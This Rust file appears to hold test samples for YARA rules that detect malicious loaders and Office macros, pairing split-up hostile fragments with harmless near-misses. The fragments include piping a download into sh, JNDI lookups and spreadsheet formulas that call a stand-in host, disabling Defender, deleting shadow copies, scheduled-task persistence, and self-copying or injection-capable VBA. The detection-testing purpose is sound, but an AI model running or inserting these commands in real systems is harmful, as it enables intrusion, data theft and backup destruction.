//! Samples of `loaders.yar`, and more of `macros.yar`.

use super::{Sample, sample};

pub const SAMPLES: &[Sample] = &[
    sample("Encoded_Windows_Script", &[b"#@~", b"^EAAAAA==\\ko$K6,Jtr"], &[b"# @~ ^ is a mark"]),
    sample(
        "Script_Evaluates_Hidden_Text",
        &[b"eval(String.from", b"CharCode(118,97,114));"],
        &[b"var s = String.fromCharCode(65); eval(x);"],
    ),
    sample(
        "PowerShell_Unpacks_Code",
        &[b"[System.Reflection.Assem", b"bly]::Load([Convert]::FromBase", b"64String($a))"],
        &[b"$b = [Convert]::FromBase64String($a); [IO.File]::WriteAllBytes($p, $b)"],
    ),
    sample(
        "Script_Switches_Off_Protection",
        &[b"Set-MpPref", b"erence -DisableRealtimeMonitoring $true"],
        &[b"Get-MpPreference | Select DisableRealtimeMonitoring; net stop spooler"],
    ),
    sample(
        "Batch_Cuts_Words_From_Variables",
        &[b"@set a=xyz\r\n", CUT, CUT, CUT],
        &[b"@set a=xyz\r\n", CUT, b"echo %date:~-4,4%"],
    ),
    sample(
        "Python_Runs_Packed_Code",
        &[b"import base64\nexec(base", b"64.b64decode('cGFzcw=='))\n"],
        &[b"import base64\nprint(base64.b64decode('cGFzcw=='))\n"],
    ),
    sample(
        "Shell_Runs_Download",
        &[b"#!/bin/sh\ncurl -s http://192.0.2.1/a |", b" sh\n"],
        &[b"#!/bin/sh\ncurl -s https://example.org/a -o a.pdf\nls | sort\n"],
    ),
    sample(
        "Script_Destroys_Backups",
        &[b"vssadmin.exe del", b"ete shadows /all /quiet"],
        &[b"vssadmin list shadows & wbadmin get versions"],
    ),
    sample(
        "Script_Fastens_Itself",
        &[b"schtasks /create /tn a /sc minute /tr \"power", b"shell -File a.ps1\""],
        &[b"schtasks /query /tn backup & reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"],
    ),
    sample(
        "Build_File_Runs_Command",
        &[b"<Project><Target Name=\"a\"><Exec Command=\"power", b"shell -c calc\"/></Target></Project>"],
        &[b"<Project><Target Name=\"a\"><Exec Command=\"tlbimp a.tlb\"/></Target></Project>"],
    ),
    sample("Jndi_Lookup", &[b"user=${jn", b"di:ldap://192.0.2.1/a}"], &[b"user=${java:version} jndi: ldap"]),
    sample(
        "Table_Formula_Sends_Data",
        &[b"name,note\r\npump,\"=HYPER", b"LINK(\"\"http://192.0.2.1/?x=\"\"&A2,\"\"open\"\")\"\r\n"],
        &[b"name,note\r\npump,\"=HYPERLINK(\"\"https://example.org/manual\"\",\"\"open\"\")\"\r\n"],
    ),
    sample(
        "TeX_Runs_Command",
        &[b"\\documentclass{article}\\immediate\\wri", b"te18{calc}"],
        &[b"\\documentclass{article}\\write16{done}\\input{chapter}"],
    ),
    sample(
        "VBA_Auto_Exec_Hides_Text",
        &[b"Sub Auto", b"Open()\ns = ", CHARS, CHARS, CHARS, b"\"\"\nCreateObject(s).Run s\nEnd Sub\n"],
        &[b"Sub AutoOpen()\ns = ", CHARS, b"\"\"\nMsgBox s\nEnd Sub\n"],
    ),
    sample(
        "VBA_Declares_Injection_Calls",
        &[
            b"Private Declare PtrSafe Function Virtual",
            b"Alloc Lib \"kernel32\"\n",
            b"Private Declare PtrSafe Function RtlMove",
            b"Memory Lib \"kernel32\"\n",
            b"Private Declare PtrSafe Function Create",
            b"Thread Lib \"kernel32\"\n",
        ],
        &[b"Private Declare PtrSafe Function GetTickCount Lib \"kernel32\" () As Long\n' CreateThread VirtualAlloc\n"],
    ),
    sample(
        "VBA_Lowers_Macro_Security",
        &[b"CreateObject(\"WScript.Shell\").RegWri", b"te k & \"\\Security\\Access", b"VBOM\", 1, \"REG_DWORD\""],
        &[b"If System.PrivateProfileString(\"\", k, \"Level\") <> \"\" Then MsgBox \"ok\""],
    ),
    sample(
        "VBA_Copies_Itself",
        &[
            b"Set a = NormalTemplate.VBProject.VBCom",
            b"ponents(1)\ns = a.CodeModule.Lines(1, 9)\nActiveDocument.VBProject.VBComponents(1).CodeModule.Insert",
            b"Lines 1, s\n",
        ],
        &[b"For Each c In ThisWorkbook.VBProject.VBComponents\nc.Export c.Name\nNext\n"],
    ),
];

const CUT: &[u8] = b"%a:~1,1%%a:~2,1%%a:~0,1%%a:~1,1%%a:~2,1%%a:~0,1%%a:~1,1%%a:~2,1%%a:~0,1%%a:~1,1%%a:~2,1%\r\n";
const CHARS: &[u8] = b"Chr(87) & Chr(83) & Chr(99) & Chr(114) & Chr(105) & ";
